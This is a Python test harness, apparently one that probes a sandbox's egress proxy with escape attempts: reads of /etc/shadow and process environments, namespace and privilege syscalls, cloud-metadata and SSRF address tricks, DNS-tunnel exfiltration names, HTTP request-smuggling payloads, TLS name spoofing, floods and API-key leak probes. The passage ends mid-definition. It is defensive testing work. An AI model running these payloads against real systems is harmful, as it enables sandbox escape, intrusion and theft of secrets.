#!/usr/bin/python3
"""A program that wants out by its proxy, by names, and with what any machine
has installed. See README.md for the attempts and what each is to come to, and
hostile.h for the lines it says.

Words NAME=VALUE: CAGED=1, POD=1, TLS and HTTP (ports of tests/hostile/
world.py), TCP (a port of the host's loopback), BROKER, KEY=tail:head.
"""
import ctypes
import errno
import http.client
import os
import re
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request

WORDS = dict(word.split("=", 1) for word in sys.argv[1:] if "=" in word)
PROXY = ("127.0.0.1", 3128)
TLS, HTTP = WORDS.get("TLS", "443"), WORDS.get("HTTP", "80")
GOOD, OFF = "ok.example", "off.example"
PATIENCE_S = 6
SLOW_S = 25  # more than the proxy waits for a head, or a greeting
# Which of how many sessions this is: each has a proxy of its own, whose log
# takes a hundred lines at once, and ten a second from then on.
PART, PARTS = (int(n) for n in WORDS.get("PART", "0/1").split("/"))
LOG_BURST = 90
CONNECTIONS_MAX = 256


def is_caged():
    return "CAGED" in WORDS


if is_caged() and os.geteuid() == 0:
    # a cage has no root in it: this would be the machine itself
    sys.exit("hostile.py: CAGED, and root: this is no cage")


# --- what an attempt came to ---

class Refused(Exception):
    """With its reason, one word."""


class Absent(Exception):
    """There is nothing to try here."""


attempts = []
slow = []  # beside the others
last = []  # they fill the log


def attempt(name, *args, harmful=False, among=None):
    """The function below, called with args: it raises Refused, Absent or an
    OSError, or returns what it got through with."""
    def register(function):
        (attempts if among is None else among).append(
            (name, function, args, harmful))
        return function
    return register


def judged(function, args, harmful):
    if harmful and not is_caged():
        return "n/a it would harm a host"
    try:
        return "THROUGH " + str(function(*args))
    except Refused as e:
        return f"refused {e}"
    except Absent as e:
        return f"n/a {e}"
    except (TimeoutError, socket.timeout):
        return "refused timeout"
    except socket.gaierror:
        return "refused no-address"
    except OSError as e:
        return "refused " + errno.errorcode.get(e.errno, type(e).__name__)


def say(name, verdict):
    clean = "".join(c if " " <= c <= "~" else "?" for c in verdict)
    print(name, clean[:200], flush=True)


# --- sockets, names and calls from an interpreter ---

LOOPBACK = ("127.0.0.1", int(WORDS.get("TCP", "1")))


@attempt("py_udp", socket.AF_INET, socket.SOCK_DGRAM, 0)
@attempt("py_udp6", socket.AF_INET6, socket.SOCK_DGRAM, 0)
@attempt("py_raw", socket.AF_INET, socket.SOCK_RAW, 1)
@attempt("py_mptcp", socket.AF_INET, socket.SOCK_STREAM, 262)
@attempt("py_packet", 17, socket.SOCK_RAW, 0)
@attempt("py_vsock", 40, socket.SOCK_STREAM, 0)
@attempt("py_alg", 38, socket.SOCK_SEQPACKET, 0)
@attempt("py_bluetooth", 31, socket.SOCK_RAW, 1)
@attempt("py_can", 29, socket.SOCK_RAW, 1)
@attempt("py_tipc", 30, socket.SOCK_STREAM, 0)
@attempt("py_xdp", 44, socket.SOCK_RAW, 0)
def a_socket(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return "a socket"


@attempt("py_tcp", "192.0.2.1", 443, harmful=True)
@attempt("py_tcp6", "2001:db8::1", 443, harmful=True)
@attempt("py_tcp_host", *LOOPBACK)
@attempt("py_tcp_name", GOOD, int(TLS))
def by_tcp(host, port):
    socket.create_connection((host, port), 2).close()
    return "connected"


@attempt("py_look_up_on_list", GOOD)
@attempt("py_look_up_off_list", "c2VjcmV0.tunnel.example")
@attempt("py_look_up_tunnel", "x" * 63 + "." + "y" * 63 + ".tunnel.example")
def by_name(name):
    return socket.getaddrinfo(name, 443)[0][4][0]


@attempt("py_dns_tcp")
def dns_by_tcp():
    server = "127.0.0.1"
    if os.path.exists("/etc/resolv.conf"):
        with open("/etc/resolv.conf", encoding="ascii") as f:
            server = (re.findall(r"^nameserver (\S+)", f.read(), re.M) or
                      [server])[0]
    return by_tcp(server, 53)


@attempt("py_without_proxy", f"http://{GOOD}:{HTTP}/")
@attempt("py_without_proxy_address", f"http://127.0.0.1:{HTTP}/")
@attempt("py_without_proxy_metadata", "http://169.254.169.254/", harmful=True)
def without_proxy(url):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        return opener.open(url, timeout=2).status
    except urllib.error.URLError as e:
        raise e.reason if isinstance(e.reason, OSError) else e


libc = ctypes.CDLL(None, use_errno=True)


@attempt("py_unshare_user", "unshare", 0x10000000)
@attempt("py_unshare_net", "unshare", 0x40000000)
@attempt("py_setuid", "setuid", 0)
@attempt("py_ptrace", "ptrace", 0, 0, 0, 0)
@attempt("py_io_uring", "syscall", 425, 8, None)
@attempt("py_bpf", "syscall", 321 if os.uname().machine == "x86_64" else 280,
         0, None, 0)
def a_call(name, *args):
    """In a child: where it is let, it is no longer what it was."""
    pid = os.fork()
    if pid == 0:
        ctypes.set_errno(0)
        done = getattr(libc, name)(*args) >= 0
        os._exit(0 if done else ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code == 0:
        return "done"
    raise OSError(code, name)


@attempt("py_kill_1", harmful=True)
def kill_one():
    os.kill(1, signal.SIGKILL)
    return "sent"


@attempt("py_proc_1_mem", "/proc/1/mem")
@attempt("py_proc_1_environ", "/proc/1/environ")
@attempt("py_shadow", "/etc/shadow")
@attempt("py_cookie", "/run/podterm/ipc/cookie")
def a_file(path):
    with open(path, "rb") as f:
        f.read(1)
    return "read"


@attempt("py_symlink")
def a_symlink():
    path = f"/tmp/hostile-py-{os.getpid()}"
    os.symlink("/etc/shadow", path)
    try:
        return a_file(path)
    finally:
        os.unlink(path)


@attempt("py_fd_escape")
def by_descriptor():
    fd = os.open("/tmp", os.O_RDONLY)
    up = os.open("../../../etc/shadow", os.O_RDONLY, dir_fd=fd)
    return len(os.read(up, 1))


@attempt("py_bundle_write")
def writes_itself():
    with open(os.path.realpath(__file__), "r+b"):
        return "opened"


@attempt("tool_unshare", "unshare", "-Ur", "true")
@attempt("tool_nsenter", "nsenter", "-t", "1", "-a", "true")
@attempt("tool_mount", "mount", "-t", "tmpfs", "none", "/tmp", harmful=True)
@attempt("tool_chroot", "chroot", "/tmp", "/bin/true", harmful=True)
@attempt("tool_su", "su", "-c", "true")
@attempt("tool_sudo", "sudo", "-n", "true")
@attempt("tool_dmesg", "dmesg", "-S")
@attempt("tool_ping", "ping", "-c1", "-W1", "192.0.2.1", harmful=True)
@attempt("tool_curl", "curl", "-sk", "-m2", "--noproxy", "*",
         f"https://{GOOD}:{TLS}/")
@attempt("tool_curl_redirect", "curl", "-skL", "-m5", "-o", "/dev/null",
         "--fail-with-body",
         f"http://{GOOD}:{HTTP}/redirect?http://{OFF}:{HTTP}/smuggled/curl")
def a_tool(*command):
    if not shutil.which(command[0]):
        raise Refused("no-such-tool")
    done = subprocess.run(command, stdin=subprocess.DEVNULL,
                          stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL, timeout=8, check=False)
    if done.returncode == 0:
        return "it came through"
    raise Refused("status")


# --- the proxy ---

asked = 0


def pace():
    """The log's lines are bounded in time, and each of ours is looked for."""
    global asked
    asked += 1
    if asked > LOG_BURST and is_caged():
        time.sleep(0.12)


def proxy(paced=True):
    if paced:
        pace()
    s = socket.create_connection(PROXY, PATIENCE_S)
    s.settimeout(PATIENCE_S)
    return s


def everything(s):
    got = b""
    try:
        while more := s.recv(65536):
            got += more
    except ConnectionResetError:
        pass
    return got


def refusal(answer):
    """Raises for what the proxy itself says; else what came."""
    found = re.match(rb"HTTP/1\.1 (\d+) ", answer)
    if not answer:
        raise Refused("closed")
    if found and int(found[1]) >= 400 and b"\r\n\r\npodterm: " in answer:
        raise Refused(found[1].decode())
    return answer


def ask(request):
    with proxy() as s:
        s.sendall(request)
        return refusal(everything(s))


def connect(authority, more=b""):
    return b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + authority + \
        b"\r\n" + more + b"\r\n"


def tunnel(authority, paced=True):
    """An open one; the greeting is still to come."""
    s = proxy(paced)
    s.sendall(connect(authority))
    head = b""
    while b"\r\n\r\n" not in head:
        more = s.recv(4096)
        if not more:
            break
        head += more
    if not head.startswith(b"HTTP/1.1 200 "):
        refusal(head + everything(s))
        raise Refused("odd-answer")
    return s


# what may be asked for: else all that is refused would prove nothing

@attempt("allowed_tls")
def allowed_tls():
    context = ssl._create_unverified_context()
    with tunnel(f"{GOOD}:{TLS}".encode()) as s:
        with context.wrap_socket(s, server_hostname=GOOD) as secure:
            secure.sendall(b"GET /allowed HTTP/1.1\r\nHost: ok\r\n\r\n")
            return secure.recv(15)


@attempt("allowed_http")
def allowed_http():
    return ask(b"GET http://%s:%s/allowed HTTP/1.1\r\nHost: x\r\n\r\n" %
               (GOOD.encode(), HTTP.encode()))[:15]


# addresses, in all their spellings

for _name, _host in {
        "v4": "192.0.2.1", "loopback": "127.0.0.1", "metadata":
        "169.254.169.254", "private": "10.0.0.1", "zero": "0.0.0.0",
        "v6": "[2001:db8::1]", "v6_loopback": "[::1]",
        "mapped": "[::ffff:127.0.0.1]", "mapped_hex": "[::ffff:7f00:1]",
        "compatible": "[::127.0.0.1]", "nat64": "[64:ff9b::7f00:1]",
        "zone": "[fe80::1%25lo]", "decimal": "2130706433",
        "hex": "0x7f000001", "hex_dotted": "0x7f.0.0.1",
        "octal": "0177.0.0.1", "octal_whole": "017700000001",
        "short": "127.1", "short_two": "127.0.1", "nothing": "0",
        "padded": "127.000.000.001", "localhost": "localhost",
        "full_width": "\uff11\uff12\uff17.0.0.1",
        "circled": "\u2460\u2461\u2466.0.0.1"}.items():
    @attempt("connect_" + _name, _host)
    def to_address(host):
        return ask(connect(f"{host}:{TLS}".encode()))[:40]

for _name, _authority in {
        "port_ssh": f"{GOOD}:22", "port_smtp": f"{GOOD}:25",
        "port_dns": f"{GOOD}:53", "port_https": f"{GOOD}:443",
        "port_proxy": f"{GOOD}:3128", "port_zero": f"{GOOD}:0",
        "port_large": f"{GOOD}:65536", "port_wraps": f"{GOOD}:"
        f"{65536 + int(TLS)}", "port_none": GOOD, "port_empty": f"{GOOD}:",
        "port_letters": f"{GOOD}:{TLS}x", "port_plus": f"{GOOD}:+{TLS}",
        "port_zeros": f"{GOOD}:0{TLS}", "port_two": f"{GOOD}:22:{TLS}",
        "name_off": f"{OFF}:{TLS}", "name_below": f"sub.{GOOD}:{TLS}",
        "name_prefixed": f"not{GOOD}:{TLS}",
        "name_suffixed": f"{GOOD}.{OFF}:{TLS}",
        "name_apex": f"inside.example:{TLS}", "name_dots": f".{GOOD}:{TLS}",
        "name_two_dots": f"ok..example:{TLS}",
        "name_final_dot": f"{GOOD}.:{TLS}",
        "name_star": f"*.inside.example:{TLS}",
        "name_percent": f"ok%2eexample:{TLS}",
        "name_nul": f"{GOOD}\0.{OFF}:{TLS}", "name_blank":
        f"{GOOD} .{OFF}:{TLS}", "name_unicode": f"\u043ek.example:{TLS}",
        "name_long": "a" * 300 + f".example:{TLS}",
        "name_tunnel": "x" * 63 + "." + "y" * 63 + "." + "z" * 60 +
        f".tunnel.example:{TLS}",
        "name_tunnel_short": f"c2VjcmV0.tunnel.example:{TLS}",
        "name_resolver": f"resolver.example:53",
        "user": f"user@{GOOD}:{TLS}", "user_other": f"{GOOD}@{OFF}:{TLS}",
        "user_other_back": f"{OFF}@{GOOD}:{TLS}",
        "password": f"user:secret@{GOOD}:{TLS}",
        "path": f"{OFF}/@{GOOD}:{TLS}", "query": f"{OFF}?{GOOD}:{TLS}",
        "fragment": f"{OFF}#{GOOD}:{TLS}", "backslash":
        f"{OFF}\\@{GOOD}:{TLS}", "url": f"https://{GOOD}:{TLS}",
        }.items():
    @attempt("connect_" + _name, _authority)
    def to_authority(authority):
        return ask(connect(authority.encode()))[:40]

for _name, _rest in {
        "length": b"Content-Length: 5\r\n", "chunked":
        b"Transfer-Encoding: chunked\r\n", "fold": b"X: a\r\n b\r\n",
        "two_hosts": b"Host: " + OFF.encode() + b"\r\n",
        "no_colon": b"X-Header\r\n", "blank_colon": b"X : y\r\n"}.items():
    @attempt("connect_with_" + _name, _rest)
    def with_header(rest):
        return ask(connect(f"{GOOD}:{TLS}".encode(), rest))[:40]

# names that lead inside: each special range

for _address in (
        "0.0.0.0", "10.1.2.3", "100.64.0.1", "127.0.0.2", "127.255.255.254",
        "169.254.169.254", "172.16.0.1", "172.31.255.255", "192.0.0.8",
        "192.0.2.1", "192.168.1.1", "198.18.0.1", "198.51.100.1",
        "203.0.113.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", "::",
        "::1", "fe80::1", "fc00::1", "fd00::1", "ff02::1",
        "::ffff:10.0.0.1", "::ffff:127.0.0.2", "::10.0.0.1",
        "64:ff9b::a00:1", "64:ff9b:1::1", "2002:a00:1::1", "2001::1",
        "2001:db8::1", "100::1", "fec0::1"):
    @attempt("inside_" + _address, _address)
    def leads_inside(address):
        if ":" not in address:
            label = address.replace(".", "-")
        else:
            packed = socket.inet_pton(socket.AF_INET6, address).hex()
            label = "6-" + "-".join(packed[i:i + 4] for i in range(0, 32, 4))
        return ask(connect(f"{label}.inside.example:{TLS}".encode()))[:40]


@attempt("rebinding")
def rebinding():
    """Public at the first look-up, inside at the second."""
    name = f"rebind.inside.example:{TLS}".encode()
    try:
        tunnel(name).close()  # it was let, as it leads to the world's server
    except Refused:
        raise Refused("at-first") from None
    return ask(connect(name))[:40]


# --- greetings ---

def greeting(name, old=False):
    context = ssl._create_unverified_context()
    if old:
        context.maximum_version = ssl.TLSVersion.TLSv1_2
    out = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def extensions_of(hello):
    """Where the extensions' length stands."""
    at = 5 + 4 + 2 + 32
    at += 1 + hello[at]
    at += 2 + int.from_bytes(hello[at:at + 2], "big")
    return at + 1 + hello[at]


def extended(hello, kind, body):
    """With one extension more."""
    at = extensions_of(hello)
    more = kind.to_bytes(2, "big") + len(body).to_bytes(2, "big") + body
    size = int.from_bytes(hello[at:at + 2], "big") + len(more)
    record = len(hello) - 5 + len(more)
    return hello[:3] + record.to_bytes(2, "big") + hello[5:6] + \
        (record - 4).to_bytes(3, "big") + hello[9:at] + \
        size.to_bytes(2, "big") + hello[at + 2:] + more


def server_name(*names):
    listed = b"".join(b"\0" + len(n).to_bytes(2, "big") + n for n in names)
    return len(listed).to_bytes(2, "big") + listed


def renamed(hello, names):
    """Its server name replaced by these."""
    at = extensions_of(hello)
    end = at + 2 + int.from_bytes(hello[at:at + 2], "big")
    kept, i = b"", at + 2
    while i < end:
        size = int.from_bytes(hello[i + 2:i + 4], "big")
        if hello[i:i + 2] != b"\0\0":
            kept += hello[i:i + 4 + size]
        i += 4 + size
    record = at + 2 + len(kept) - 5
    bare = hello[:3] + record.to_bytes(2, "big") + hello[5:6] + \
        (record - 4).to_bytes(3, "big") + hello[9:at] + \
        len(kept).to_bytes(2, "big") + kept
    return extended(bare, 0, server_name(*names))


def records(hello, size):
    """The same message in records of that size."""
    body = hello[5:]
    return b"".join(hello[:3] + len(body[i:i + size]).to_bytes(2, "big") +
                    body[i:i + size] for i in range(0, len(body), size))


def ending(s):
    """How a tunnel ended: nothing may have come back."""
    got = everything(s)
    if got:
        return f"{len(got)} bytes, the first {got[:5].hex()}"
    raise Refused("closed")


def greets(what):
    with tunnel(f"{GOOD}:{TLS}".encode()) as s:
        s.sendall(what)
        return ending(s)


_good = greeting(GOOD)
_ech = b"\0" + bytes.fromhex("0001000101") + b"\0\x20" + b"k" * 32 + \
    b"\0\x40" + b"p" * 64
for _name, _bytes in {
        "other": greeting(OFF), "other_old": greeting(OFF, True),
        "none": greeting(None), "none_old": greeting(None, True),
        "ech": extended(_good, 0xfe0d, _ech),
        "ech_other_outside": extended(greeting(OFF), 0xfe0d, _ech),
        "esni": extended(_good, 0xffce, _ech),
        "twice": extended(_good, 0, server_name(OFF.encode())),
        "two_names": renamed(_good, (GOOD.encode(), OFF.encode())),
        "two_names_back": renamed(_good, (OFF.encode(), GOOD.encode())),
        "address": renamed(_good, (b"127.0.0.1",)),
        "empty_name": renamed(_good, (b"",)),
        "nul": renamed(_good, (GOOD.encode() + b"\0." + OFF.encode(),)),
        "final_dot": renamed(_good, (GOOD.encode() + b".",)),
        "below": greeting("sub." + GOOD),
        "in_pieces_other": records(greeting(OFF), 7),
        "cut_by_other_kind": records(_good, 50)[:55] +
        b"\x15\x03\x01\0\x02\x01\0" + records(_good, 50)[55:],
        "two_messages": _good[:3] + (2 * (len(_good) - 5)).to_bytes(2, "big") +
        _good[5:] + greeting(OFF)[5:],
        "too_large": b"\x16\x03\x01\x40\x00\x01\x01\x00\x00" + b"\0" * 20480,
        "ssl_2": b"\x80\x2e\x01\x03\x01\0\x15\0\0\0\x10" + b"\0" * 37,
        "http": b"GET /smuggled/plain HTTP/1.1\r\nHost: x\r\n\r\n",
        "ssh": b"SSH-2.0-OpenSSH_9.2\r\n",
        "dns": b"\0\x1d\x13\x37\x01\0\0\x01\0\0\0\0\0\0\x06tunnel\0\0\1\0\1",
        "alert_first": b"\x15\x03\x01\0\x02\x01\0" + _good,
        "data_first": b"\x17\x03\x03\0\x05hello" + _good,
        "empty_record": b"\x16\x03\x01\0\0" + _good}.items():
    @attempt("greeting_" + _name, _bytes)
    def says(what):
        return greets(what)


@attempt("greeting_with_connect")
def at_once():
    """In one write with CONNECT, before anybody said 200."""
    with proxy() as s:
        s.sendall(connect(f"{GOOD}:{TLS}".encode()) + greeting(OFF))
        got = everything(s)
    behind = got.split(b"\r\n\r\n", 1)[-1]
    if behind:
        return f"{len(behind)} bytes"
    raise Refused("closed")


@attempt("greeting_second")
@attempt("greeting_second_bare", b"")
def second(between=b"\x14\x03\x03\0\x01\x01"):
    """The right name first, then another. The server has answered the first
    by then; the log says that the second was seen."""
    with tunnel(f"{GOOD}:{TLS}".encode()) as s:
        s.sendall(_good + between + greeting(OFF))
        everything(s)
    raise Refused("cut")


# --- plain HTTP: what two servers could read in two ways ---

HOST = f"{GOOD}:{HTTP}".encode()
SMUGGLED = b"GET http://" + f"{OFF}:{HTTP}".encode() + \
    b"/smuggled/%b HTTP/1.1\r\nHost: x\r\n\r\n"


def post(head, body=b"", path=b"/"):
    return b"POST http://" + HOST + path + b" HTTP/1.1\r\nHost: " + HOST + \
        b"\r\n" + head + b"\r\n" + body


for _name, _request in {
        "cl_te": post(b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
                      b"0\r\n\r\n" + SMUGGLED % b"cl-te"),
        "te_cl": post(b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
                      b"0\r\n\r\n" + SMUGGLED % b"te-cl"),
        "two_lengths": post(b"Content-Length: 5\r\nContent-Length: 6\r\n",
                            b"12345" + SMUGGLED % b"two-lengths"),
        "same_lengths": post(b"Content-Length: 5\r\nContent-Length: 5\r\n",
                             b"12345"),
        "length_list": post(b"Content-Length: 5, 5\r\n", b"12345"),
        "length_plus": post(b"Content-Length: +5\r\n", b"12345"),
        "length_minus": post(b"Content-Length: -1\r\n", b"12345"),
        "length_hex": post(b"Content-Length: 0x5\r\n", b"12345"),
        "length_huge": post(b"Content-Length: 99999999999999999999\r\n"),
        "te_identity": post(b"Transfer-Encoding: identity\r\n"),
        "te_list": post(b"Transfer-Encoding: gzip, chunked\r\n", b"0\r\n\r\n"),
        "te_twice": post(b"Transfer-Encoding: chunked\r\n"
                         b"Transfer-Encoding: identity\r\n", b"0\r\n\r\n"),
        "te_x": post(b"Transfer-Encoding: xchunked\r\n", b"0\r\n\r\n"),
        "te_vtab": post(b"Transfer-Encoding: \x0bchunked\r\n", b"0\r\n\r\n"),
        "te_blank": post(b"Transfer-Encoding : chunked\r\n", b"0\r\n\r\n"),
        "te_fold": post(b"Transfer-Encoding:\r\n chunked\r\n", b"0\r\n\r\n"),
        "te_old": post(b"Transfer-Encoding: chunked\r\n",
                       b"0\r\n\r\n").replace(b"HTTP/1.1", b"HTTP/1.0", 1),
        "te_nominated": post(b"Connection: Transfer-Encoding\r\n"
                             b"Transfer-Encoding: chunked\r\n", b"0\r\n\r\n"),
        "length_nominated": post(b"Connection: Content-Length\r\n"
                                 b"Content-Length: 5\r\n", b"12345"),
        "bare_lf": post(b"X: y\n", b""),
        "bare_lf_all": b"GET http://" + HOST +
        b"/ HTTP/1.1\nHost: x\n\nGET /smuggled/lf HTTP/1.1\n\n",
        "bare_cr": post(b"X: y\rZ: 1\r\n"),
        "nul": post(b"X: a\0b\r\n"), "fold": post(b"X: a\r\n\tb\r\n"),
        "two_hosts": post(b"Host: " + OFF.encode() + b"\r\n"),
        "no_host": b"GET http://" + HOST + b"/ HTTP/1.1\r\nX: y\r\n\r\n",
        "no_colon": post(b"X-Header\r\n"), "blank_colon": post(b"X : y\r\n"),
        "origin_form": b"GET /smuggled/origin HTTP/1.1\r\nHost: " + HOST +
        b"\r\n\r\n",
        "origin_form_off": b"GET /smuggled/origin HTTP/1.1\r\nHost: " +
        OFF.encode() + b"\r\n\r\n",
        "asterisk": b"OPTIONS * HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
        "https": b"GET https://" + HOST + b"/ HTTP/1.1\r\nHost: x\r\n\r\n",
        "ftp": b"GET ftp://" + HOST + b"/ HTTP/1.1\r\nHost: x\r\n\r\n",
        "file": b"GET file:///etc/shadow HTTP/1.1\r\nHost: x\r\n\r\n",
        "off": b"GET http://" + f"{OFF}:{HTTP}".encode() +
        b"/smuggled/off HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
        "address": b"GET http://127.0.0.1:" + HTTP.encode() +
        b"/smuggled/address HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
        "metadata": b"GET http://169.254.169.254/latest/ HTTP/1.1\r\n"
        b"Host: " + HOST + b"\r\n\r\n",
        "user": b"GET http://user:pw@" + HOST +
        b"/ HTTP/1.1\r\nHost: x\r\n\r\n",
        "user_other": b"GET http://" + HOST + b"@" + OFF.encode() +
        b"/ HTTP/1.1\r\nHost: x\r\n\r\n",
        "fragment": b"GET http://" + HOST +
        b"/#x HTTP/1.1\r\nHost: x\r\n\r\n",
        "old_version": b"GET http://" + HOST + b"/\r\n\r\n",
        "http_2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "http_3": b"GET http://" + HOST + b"/ HTTP/3.0\r\nHost: x\r\n\r\n",
        "two_blanks": b"GET  http://" + HOST +
        b"/ HTTP/1.1\r\nHost: x\r\n\r\n",
        "tab": b"GET\thttp://" + HOST + b"/\tHTTP/1.1\r\nHost: x\r\n\r\n",
        "blank_line_first": b"\r\nGET http://" + HOST +
        b"/ HTTP/1.1\r\nHost: x\r\n\r\n",
        "socks_5": b"\x05\x01\x00\r\n\r\n", "socks_4": b"\x04\x01\x01\xbb"
        b"\x7f\0\0\1\0\r\n\r\n",
        "headers_many": post(b"".join(b"X-%d: y\r\n" % i
                                      for i in range(101))),
        "header_large": post(b"X: " + b"y" * 17000 + b"\r\n"),
        "target_large": b"GET http://" + HOST + b"/" + b"y" * 17000 +
        b" HTTP/1.1\r\nHost: x\r\n\r\n"}.items():
    @attempt("http_" + _name, _request)
    def requests(request):
        return ask(request)[:60]


@attempt("http_endless")
def endless():
    with proxy() as s:
        try:
            s.sendall(b"GET http://" + HOST + b"/ HTTP/1.1\r\nX: ")
            for _ in range(64):
                s.sendall(b"y" * 1024)
        except (BrokenPipeError, ConnectionResetError):
            pass
        return refusal(everything(s))[:40]


@attempt("http_pipelined", b"GET http://" + HOST +
         b"/first HTTP/1.1\r\nHost: x\r\n\r\n" + SMUGGLED % b"pipelined")
@attempt("http_behind_body", post(b"Content-Length: 5\r\n", b"12345" +
                                  SMUGGLED % b"behind-body"))
@attempt("http_behind_chunks", post(b"Transfer-Encoding: chunked\r\n",
                                    b"5\r\n12345\r\n0\r\n\r\n" +
                                    SMUGGLED % b"behind-chunks"))
@attempt("http_keep_alive", b"GET http://" + HOST + b"/first HTTP/1.1\r\n"
         b"Host: x\r\nConnection: keep-alive\r\nKeep-Alive: 99\r\n\r\n" +
         SMUGGLED % b"keep-alive")
def pipelined(request):
    """The first request is answered; what stands behind it is nobody's."""
    got = ask(request)
    if got.count(b"HTTP/1.1 200") == 1 and b"smuggled" not in got:
        raise Refused("dropped")
    return got[-60:]


@attempt("http_chunk_extension", b"5;x=y\r\n12345\r\n0\r\n\r\n")
@attempt("http_chunk_large", b"fffffffffffffffff\r\n")
@attempt("http_chunk_minus", b"-5\r\n12345\r\n0\r\n\r\n")
@attempt("http_chunk_lf", b"5\n12345\n0\n\n")
@attempt("http_trailer", b"0\r\nHost: off\r\n\r\n")
def chunks(body):
    """A body that is malformed is cut: the answer, if any, is to its head."""
    request = post(b"Transfer-Encoding: chunked\r\n", body + SMUGGLED % b"ch")
    got = ask(request)
    if b"smuggled" in got:
        return got[-60:]
    raise Refused("cut")


@attempt("http_other_host", b"Host: " + OFF.encode(), b"off.example")
@attempt("http_credentials", b"Host: x\r\nProxy-Authorization: Basic c2VjcmV0",
         b"c2VjcmV0")
@attempt("http_proxy_connection", b"Host: x\r\nProxy-Connection: keep-alive",
         b"Proxy-Connection")
@attempt("http_upgrade", b"Host: x\r\nConnection: upgrade\r\n"
         b"Upgrade: websocket", b"Upgrade")
@attempt("http_nominated", b"Host: x\r\nConnection: X-Hop\r\nX-Hop: 1",
         b"X-Hop")
@attempt("http_te", b"Host: x\r\nTE: trailers", b"TE:")
def not_passed_on(head, word):
    """The server tells what it got; that word is not for it."""
    got = ask(b"GET http://" + HOST + b"/echo HTTP/1.1\r\n" + head +
              b"\r\n\r\n")
    if word in got or not got.startswith(b"HTTP/1.1 200"):
        return got[-60:]
    raise Refused("left-out")


# --- redirects of a server that may be reached ---

@attempt("redirect_off", f"http://{OFF}:{HTTP}/smuggled/redirect")
@attempt("redirect_address", f"http://127.0.0.1:{HTTP}/smuggled/redirect")
@attempt("redirect_metadata", "http://169.254.169.254/latest/")
@attempt("redirect_inside", f"https://10-0-0-1.inside.example:{TLS}/")
@attempt("redirect_tls", f"https://{OFF}:{TLS}/smuggled/redirect")
@attempt("redirect_port", f"http://{GOOD}:22/")
@attempt("redirect_user", f"http://{GOOD}:{HTTP}@{OFF}/")
def redirected(to):
    pace()
    proxies = dict.fromkeys(("http", "https"), "http://%s:%d" % PROXY)
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler(proxies),
        urllib.request.HTTPSHandler(context=ssl._create_unverified_context()))
    try:
        answer = opener.open(f"http://{GOOD}:{HTTP}/redirect?{to}",
                             timeout=PATIENCE_S)
        return answer.read()[:60]
    except urllib.error.HTTPError as e:
        if e.read().startswith(b"podterm: "):
            raise Refused(e.code) from e
        return e.code
    except urllib.error.URLError as e:
        found = re.search(r"Tunnel connection failed: (\d+)", str(e.reason))
        if found:
            raise Refused(found[1]) from e
        raise e.reason if isinstance(e.reason, OSError) else e


# --- slowness and floods ---

def drips(s, text):
    """A byte now and then, until it is told, or cut."""
    until = time.monotonic() + SLOW_S
    s.settimeout(0.4)
    got = b""
    try:
        for i in range(1 << 20):
            s.sendall(text[i % len(text):i % len(text) + 1])
            try:
                more = s.recv(4096)
                if not more:
                    break
                got += more
            except (TimeoutError, socket.timeout):
                pass
            if time.monotonic() > until:
                return "it is still listened to"
    except (BrokenPipeError, ConnectionResetError):
        pass
    return refusal(got)


@attempt("slow_head", among=slow)
def slow_head():
    with proxy(False) as s:
        s.sendall(b"GET http://" + HOST + b"/ HTTP/1.1\r\n")
        return drips(s, b"X: y\r\n")


@attempt("slow_connect", among=slow)
def slow_connect():
    with proxy(False) as s:
        return drips(s, connect(f"{GOOD}:{TLS}".encode())[:-2] + b"X: y\r\n")


@attempt("slow_greeting", among=slow)
def slow_greeting():
    with tunnel(f"{GOOD}:{TLS}".encode(), False) as s:
        return drips(s, _good[:5] + b"\x01\0\x10\0" + b"\0" * 4096)


@attempt("slow_silence", among=slow)
def slow_silence():
    with proxy(False) as s:
        s.settimeout(SLOW_S)
        return refusal(everything(s))


def flood(paced_last):
    """One more than may be, all at once, and then what is asked for."""
    kept = []
    try:
        for _ in range(CONNECTIONS_MAX):
            kept.append(proxy(False))
        time.sleep(0.3)
        if paced_last:
            pace()
        return ask(connect(f"{GOOD}:{TLS}".encode()))[:40]
    finally:
        for s in kept:
            s.close()
        time.sleep(0.3)


@attempt("flood_connections", among=last)
def flood_connections():
    return flood(True)


@attempt("flood_connects", among=last)
def flood_connects():
    """CONNECT again and again, each left open."""
    kept, last = [], None
    try:
        for _ in range(CONNECTIONS_MAX + 5):
            s = proxy(False)
            s.sendall(connect(f"{GOOD}:{TLS}".encode()))
            kept.append(s)
        for s in kept:
            head = s.recv(4096)
            if not head.startswith(b"HTTP/1.1 200 "):
                last = head
                s.close()  # their lines come before those of the others
        time.sleep(0.2)
        if last is None:
            return f"{len(kept)} at a time"
        refusal(last)
        return last[:40]
    finally:
        for s in kept:
            s.close()
        time.sleep(0.3)


# --- the key, in what its broker says ---

def found_key(text):
    tail, _, head = WORDS["KEY"].partition(":")
    at = text.find(head.encode())
    while at >= 0:
        if text[at + len(head):].startswith(tail.encode()):
            return True
        at = text.find(head.encode(), at + 1)
    return False


@attempt("key_answer_get", b"GET /v1/models HTTP/1.1\r\nHost: x\r\n"
         b"Connection: close\r\n\r\n")
@attempt("key_answer_post", b"POST /v1/messages HTTP/1.1\r\nHost: x\r\n"
         b"Content-Type: application/json\r\nContent-Length: 2\r\n"
         b"Connection: close\r\n\r\n{}")
@attempt("key_answer_trace", b"TRACE / HTTP/1.1\r\nHost: x\r\n"
         b"Connection: close\r\n\r\n")
@attempt("key_answer_other_host", b"GET http://off.example/ HTTP/1.1\r\n"
         b"Host: off.example\r\nConnection: close\r\n\r\n")
